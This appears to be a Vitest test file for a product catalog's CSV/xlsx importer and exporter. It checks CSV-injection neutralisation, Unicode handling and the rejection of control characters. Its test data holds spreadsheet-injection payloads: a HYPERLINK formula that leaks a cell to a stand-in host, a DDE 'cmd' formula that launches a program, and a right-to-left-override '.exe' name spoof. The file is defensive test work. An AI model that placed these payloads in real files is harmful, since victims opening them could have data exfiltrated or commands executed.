import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { exportProducts } from '../../../main/catalog/exporter';
import { importProducts } from '../../../main/catalog/importer';
import { openDatabase, type Db } from '../../../main/db/connection';
import { AppError } from '../../../main/errors';
import { snapshot, tempDir, tEn, tPt, writeCsv, writeXlsx } from '../catalog/helpers';

/**
 * Hostile strings a seller's file (or a stranger's, copied into it) may carry. Decisions:
 * - Formula-like text is data: stored exactly as typed. xlsx exports write it as a text cell
 *   (never a formula); CSV exports prefix it with an apostrophe (OWASP CSV-injection defence),
 *   which the CSV reader removes again, so an exported file re-imports unchanged.
 * - Emoji are legal in SKUs: Amazon's seller SKU is free text of up to 40 characters and the
 *   client URL-encodes it in paths. Vitrine counts the 40 in UTF-16 units (an emoji counts two),
 *   stricter than or equal to Amazon's count, so a SKU Vitrine accepts Amazon accepts.
 * - RTL text, bidi marks, combining accents and zero-width joiners are ordinary text: kept as is.
 * - C0 control characters (NUL, BEL, ESC…) are never legitimate product text: the field is
 *   refused with a row error, as Amazon would refuse it much later and less clearly.
 */
const FORMULAS = ['=HYPERLINK("http://x.invalid/?q="&A1,"Clique")', '+SUM(1;2)', '-2+3', '@SOMA(A1)', "=cmd|' /C calc'!A0"];
const RTL = 'מוצר חדש — \u202bعربي\u202c — \u202egpj.exe';
const LEGIT: readonly (readonly string[])[] = [
  ['SKU', 'Título', 'Descrição', 'Marca', 'Preço'],
  ['F-1', FORMULAS[0] ?? '', FORMULAS[1] ?? '', FORMULAS[3] ?? '', '10'],
  ['=F2', FORMULAS[4] ?? '', 'x', 'y', '11'],
  ['-5', FORMULAS[2] ?? '', 'menos', 'z', '12'],
  ['CANECA-☕-01', 'Caneca ☕ família 👨‍👩‍👧', 'Emoji com ZWJ', 'Café', '13'],
  ['👕-P', 'Camiseta 👕 tamanho P', 'Tecido não\u0303 normalizado', 'Malha', '14'],
  ['R-1', RTL, 'שלום עולם\nمرحبا بالعالم', 'אבג', '15'],
];

describe('hostile but legitimate strings', () => {
  let dir: string;
  let db: Db;

  beforeAll(async () => {
    dir = tempDir();
    db = openDatabase(join(dir, 'hostile.db'));
    const report = await importProducts(db, writeCsv(join(dir, 'legit.csv'), LEGIT), { dryRun: false, t: tPt });
    expect(report).toMatchObject({ imported: LEGIT.length - 1, rejected: 0 });
  });
  afterAll(() => db.close());

  it('are stored exactly as typed', () => {
    const rows = db.prepare('SELECT s.sku, p.title, p.description, p.brand FROM skus s JOIN products p ON p.id = s.product_id ORDER BY s.rowid').all();

    expect(rows).toEqual(LEGIT.slice(1).map(([sku, title, description, brand]) => ({ sku, title, description, brand })));
  });

  it("re-import unchanged from Vitrine's own CSV and xlsx exports", async () => {
    const before = snapshot(db);
    for (const name of ['round.csv', 'round.xlsx']) {
      const file = join(dir, name);
      await exportProducts(db, file, { t: tPt });

      const report = await importProducts(db, file, { dryRun: false, t: tPt });

      expect([name, report.errors]).toEqual([name, []]);
      expect(report).toMatchObject({ imported: 0, updated: 0, unchanged: LEGIT.length - 1 });
      expect(snapshot(db)).toEqual(before);
    }
  });

  it('a CSV export neutralises every formula-like cell with a leading apostrophe', async () => {
    const file = join(dir, 'neutral.csv');

    await exportProducts(db, file, { t: tEn });

    const unquoted = (parse(readFileSync(file), { bom: true, delimiter: ',', relax_column_count: true }) as string[][]).flat();
    // A plain signed number ("-5") is a number to a spreadsheet, never a formula: it stays as typed.
    expect(unquoted.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^[+-]?\d+(?:[.,]\d+)*$/.test(c))).toEqual([]);
    expect(unquoted).toContain('-5');
    for (const formula of FORMULAS) expect(unquoted).toContain(`'${formula}`);
  });

  it('an xlsx export writes formula-like text as text cells with the same leading apostrophe, never as formulas', async () => {
    const file = join(dir, 'neutral.xlsx');

    await exportProducts(db, file, { t: tEn });

    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(file);
    const texts: string[] = [];
    wb.worksheets[0]?.eachRow((row) =>
      row.eachCell((cell) => {
        expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
        if (typeof cell.value === 'string') texts.push(cell.value);
      }),
    );
    // Editing such a cell in Excel, or saving the sheet as CSV elsewhere, would otherwise run it.
    expect(texts.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^[+-]?\d+(?:[.,]\d+)*$/.test(c))).toEqual([]);
    expect(texts).toContain('-5');
    for (const formula of FORMULAS) expect(texts).toContain(`'${formula}`);
  });

  it('a SKU of 21 emoji is over the limit: refused for its row and column', async () => {
    const sku = '😀'.repeat(21);

    const report = await importProducts(
      db,
      writeCsv(join(dir, 'long-emoji.csv'), [
        ['SKU', 'Título'],
        [sku, 'Longo'],
      ]),
      { dryRun: false, t: tEn },
    );

    expect(report.errors).toEqual([{ row: 2, field: 'SKU', code: 'TOO_LONG', message: 'Row 2, column "SKU": the text has 42 characters; the limit is 40.' }]);
  });
});

describe('hostile input that is refused', () => {
  let dir: string;
  let db: Db;
  let before: Record<string, unknown[]>;
  /** Ordinary rows already in the catalog: over 4 KB, so later rows are past the CSV sniffer's sample. */
  const filler = Array.from({ length: 80 }, (_, i) => [`FILL-${i}`, `Produto comum número ${i}`, 'Descrição comum', 'Marca', '1']);

  beforeAll(async () => {
    dir = tempDir();
    db = openDatabase(join(dir, 'refused.db'));
    await importProducts(db, writeCsv(join(dir, 'filler.csv'), [['SKU', 'Título', 'Descrição', 'Marca', 'Preço'], ...filler]), { dryRun: false, t: tPt });
    before = snapshot(db);
  });
  afterAll(() => db.close());

  const CONTROLS = [
    ['C-1', 'Título com NUL\u0000', 'ok', 'b', '1'],
    ['C-2', 'Título', 'terminal \u001b[2J limpo', 'b', '1'],
    ['C-3\u0007', 'Sino no SKU', 'ok', 'b', '1'],
  ];

  // CSV only: xlsx is XML, which cannot hold these characters raw (writers drop or escape them).
  it('control characters in a CSV: each field refused with a localized row error naming row and column, nothing written', async () => {
    const file = writeCsv(join(dir, 'controls.csv'), [['SKU', 'Título', 'Descrição', 'Marca', 'Preço'], ...filler, ...CONTROLS]);

    const report = await importProducts(db, file, { dryRun: false, t: tPt });

    expect(snapshot(db)).toEqual(before);
    expect(report.errors.map((e) => `${e.row}:${e.field}:${e.code}`)).toEqual([
      '82:Título:CONTROL_CHARACTER',
      '83:Descrição:CONTROL_CHARACTER',
      '84:SKU:CONTROL_CHARACTER',
    ]);
    expect(report.errors[0]?.message).toBe(
      'Linha 82, coluna "Título": o texto contém um caractere de controle invisível (U+0000). Apague-o na planilha e importe de novo.',
    );
  });

  it('a control character at the top of a CSV: the whole file is refused as not a spreadsheet', async () => {
    const file = writeCsv(join(dir, 'binary-ish.csv'), [
      ['SKU', 'Título'],
      ['B-1', 'NUL\u0000aqui'],
    ]);

    const err = await importProducts(db, file, { dryRun: false, t: tPt }).then(
      () => undefined,
      (e: unknown) => e,
    );

    expect(err).toBeInstanceOf(AppError);
    expect((err as AppError).code).toBe('NOT_A_SPREADSHEET');
    expect(snapshot(db)).toEqual(before);
  });

  it('a 10 MB cell: the whole file refused, xlsx past the cell limit and CSV as malformed; no crash, nothing written', async () => {
    const huge = 'ß'.repeat(10 * 1024 * 1024);
    const xlsx = await writeXlsx(join(dir, 'huge.xlsx'), [
      ['SKU', 'Título', 'Descrição'],
      ['H-1', 'Enorme', huge],
    ]);
    const csv = writeCsv(join(dir, 'huge.csv'), [
      ['SKU', 'Título', 'Descrição'],
      ['H-1', 'Enorme', huge],
    ]);

    const xlsxError = await importProducts(db, xlsx, { dryRun: false, t: tPt }).then(
      () => undefined,
      (e: unknown) => e,
    );
    const csvError = await importProducts(db, csv, { dryRun: false, t: tPt }).then(
      () => undefined,
      (e: unknown) => e,
    );

    expect(xlsxError).toBeInstanceOf(AppError);
    expect((xlsxError as AppError).code).toBe('SPREADSHEET_CELL_TOO_LONG');
    expect(tPt('errors.SPREADSHEET_CELL_TOO_LONG', { ...(xlsxError as AppError).params })).toBe(
      `Uma célula do arquivo ${xlsx} tem mais de 1.048.576 caracteres (o Excel guarda no máximo 32.767 numa célula), o limite da Vitrine. Confira se o arquivo é mesmo a planilha de produtos. Nada foi importado.`,
    );
    expect(csvError).toBeInstanceOf(AppError);
    expect((csvError as AppError).code).toBe('CSV_MALFORMED');
    expect(tPt('errors.CSV_MALFORMED', { ...(csvError as AppError).params })).toContain('linha 2');
    expect(snapshot(db)).toEqual(before);
  });
});
